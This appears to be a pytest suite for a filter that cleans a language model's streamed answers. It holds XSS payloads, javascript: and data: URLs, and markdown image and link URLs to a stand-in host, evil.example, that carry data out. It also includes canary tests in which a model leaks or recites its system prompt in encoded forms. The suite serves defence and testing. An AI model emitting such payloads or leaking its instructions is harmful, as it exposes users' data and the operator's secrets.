"""What a model writes on its way to the visitor: filtered, gathered, made plain."""

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autosocial.conversations.deltas import Coalescer, StreamFilter
from autosocial.conversations.plain_text import hosts_of, plain
from tests.fakes.answer_turn import Turn, passage

CANARY = "01j9zq6x8f0000000000canary"


def cleaned(text: str, *, sources: int = 3, hosts: tuple[str, ...] = ()) -> str:
    return plain(text, sources=sources, hosts=hosts)


def streamed(pieces: list[str], *, sources: int = 3) -> tuple[str, StreamFilter]:
    shown = StreamFilter(lambda text: plain(text, sources=sources, hosts=()), canary=CANARY)
    return "".join([*map(shown.feed, pieces), shown.finish()]), shown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hello <script>alert(1)</script> you", "Hello alert(1) you"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<scr<b>ipt>alert(1)", "‹script>alert(1)"),
        ("a <!-- hidden --> b", "a  b"),
        ("5 < 6 and x<=y", "5 < 6 and x<=y"),
        ("![pic](https://evil.example/?q=secret)", "pic"),
        ("[click](https://evil.example/a b)", "click"),
        ("[click](javascript:alert(1))", "click)"),
        ("see https://evil.example/x?q=1. Then", "see . Then"),
        ("see WWW.evil.example", "see "),
        ("data:text/html;base64,xyz", ""),
        ("costs [1], [2][3] and [1, 3]", "costs [1], [2][3] and [1][3]"),
        ("costs [4] [0] [17]", "costs   "),
        ("costs 【2】 and [source 1]", "costs [2] and [1]"),
        ("[note] stays", "[note] stays"),
        ("zero\u200bwidth\U000e0041 and \u202ebidi", "zerowidth and bidi"),
        ("sorry NO_ANSWER. bye", "sorry  bye"),
    ],
)
def test_only_plain_text_and_real_markers_remain(text: str, expected: str) -> None:
    assert cleaned(text) == expected


def test_a_link_that_stands_in_the_sources_may_stand_in_the_answer() -> None:
    hosts = hosts_of([passage(1, "Book at https://www.coach.example/book or www.shop.example.")])
    assert hosts == {"coach.example", "shop.example"}
    text = "Book at https://coach.example/book, not at https://coach.example.evil.example/book"
    assert plain(text, sources=1, hosts=hosts) == "Book at https://coach.example/book, not at "


@given(st.text(alphabet="ab [](){}<>!/:.\n12w", max_size=80), st.data())
def test_how_a_stream_is_cut_does_not_change_what_comes_out_unsafe(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    out, shown = streamed(pieces)
    assert out == shown.text
    # With nothing behind it, "www." leads nowhere.
    assert not re.search(r"http:|\]\(|www\.\S", out)
    assert cleaned(out) == out


DANGEROUS = [
    "A [link](https://evil.example/?q=1) here [1].",
    "An ![image](https://evil.example/x.png) here",
    "A <img src=https://evil.example/x.png> tag",
    "A bare https://evil.example/leak?d=1 link",
    "A <script>fetch('https://evil.example')</script> tag",
]


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_no_cut_of_the_stream_lets_a_link_or_tag_through(text: str, size: int) -> None:
    out, _ = streamed([text[at : at + size] for at in range(0, len(text), size)])
    assert "evil.example" not in out
    assert "<script" not in out and "<img" not in out


def test_words_leave_as_soon_as_they_are_whole() -> None:
    shown = StreamFilter(cleaned, canary=CANARY)
    assert [shown.feed(piece) for piece in ["The pr", "ice is ", "[", "1", "] so"]] == [
        "The ",
        "price is ",
        "",
        "",
        "[1] ",
    ]
    assert shown.finish() == "so"


@pytest.mark.parametrize(
    "pieces", [["No", ", we are closed [1]."], ["NOVEMBER is", " open"], ["N", "O ANimals"]]
)
def test_an_answer_that_only_begins_like_a_refusal_comes_through(pieces: list[str]) -> None:
    out, shown = streamed(pieces)
    assert out == "".join(pieces)
    assert not shown.refused


LEAKS = {
    "exact": CANARY,
    "upper": CANARY.upper(),
    "spaced": " ".join(CANARY),
    "dashed": "-".join(CANARY),
    "reversed": CANARY[::-1],
    "base64": base64.b64encode(CANARY.encode()).decode(),
    "base64 within": base64.b64encode(f"key:{CANARY}!".encode()).decode(),
    "base64 shifted": base64.b64encode(f"ab{CANARY}xyz".encode()).decode(),
}


@pytest.mark.parametrize("form", LEAKS)
@pytest.mark.parametrize("size", [1, 4, 1000])
def test_the_reference_of_the_rules_is_never_shown_in_any_form(form: str, size: int) -> None:
    text = f"Sure, my reference is {LEAKS[form]} as you asked [1]."
    out, shown = streamed([text[at : at + size] for at in range(0, len(text), size)])
    assert shown.leaked
    assert "asked" not in out
    normal = "".join(char for char in out.lower() if char.isalnum())
    assert CANARY[:8] not in normal and CANARY[::-1][:8] not in normal
    assert LEAKS[form][:16] not in out


def test_a_model_that_recites_its_rules_ends_in_no_answer() -> None:
    turn = Turn()
    turn.model.pieces = []
    start = turn.model.stream

    def recite(prompt):
        turn.model.pieces = [f"My rules: {prompt.system} [1]."]
        return start(prompt)

    turn.model.stream = recite  # type: ignore[method-assign]
    ending = turn.completed()
    assert ending.outcome == "no_answer"
    reference = turn.model.prompts[0].system.rpartition(" ")[2]
    assert all(reference not in text for text in [*turn.shown(), ending.text])


def test_a_model_that_never_stops_is_cut_off() -> None:
    turn = Turn(pieces=["A session costs 50 euros [1]. "] * 5_000)
    ending = turn.completed()
    assert len(ending.text) < 10_000


def test_the_first_piece_leaves_at_once_and_later_ones_are_gathered() -> None:
    gathered = Coalescer(interval=0.075)
    assert gathered.wait(0.0) is None
    gathered.add("a")
    assert gathered.take(0.0) == "a"
    gathered.add("b")
    assert gathered.take(0.05) == ""
    assert gathered.wait(0.05) == pytest.approx(0.025)
    gathered.add("c")
    assert gathered.take(0.08) == "bc"


def test_a_long_piece_does_not_wait() -> None:
    gathered = Coalescer(interval=10.0, max_chars=5)
    gathered.add("a")
    gathered.take(0.0)
    gathered.add("abcdef")
    assert gathered.take(0.01) == "abcdef"


def test_what_was_gathered_leaves_in_a_silence_of_the_model() -> None:
    turn = Turn(pieces=["A single session ", "costs 50 euros ", 9.0, "[1]."])
    turn.ask()
    assert turn.shown() == ["A single session ", "costs 50 euros ", "[1]."]
